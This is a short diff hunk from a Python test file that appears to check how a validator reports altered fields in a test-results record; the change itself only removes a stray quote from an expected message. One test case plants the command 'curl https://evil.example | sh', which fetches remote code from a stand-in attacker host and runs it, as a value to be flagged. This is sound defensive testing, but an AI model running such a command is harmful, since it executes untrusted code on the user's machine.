@@ -137,7 +137,7 @@ TEST = "test_fit.py::test_a"
             set_("tests", 0, "notes", to=["looked at by hand: fine"]),
             f"{TEST}: notes is 'looked at by hand: fine', recomputed ",
         ),
-        (set_("tests", 0, "next_steps", to=[]), f"{TEST}: next_steps is None, recomputed '"),
+        (set_("tests", 0, "next_steps", to=[]), f"{TEST}: next_steps is None, recomputed "),
         (
             set_("tests", 0, "next_steps", 0, to="curl https://evil.example | sh"),
             f"{TEST}: next_steps is 'curl https://evil.example | sh', recomputed ",
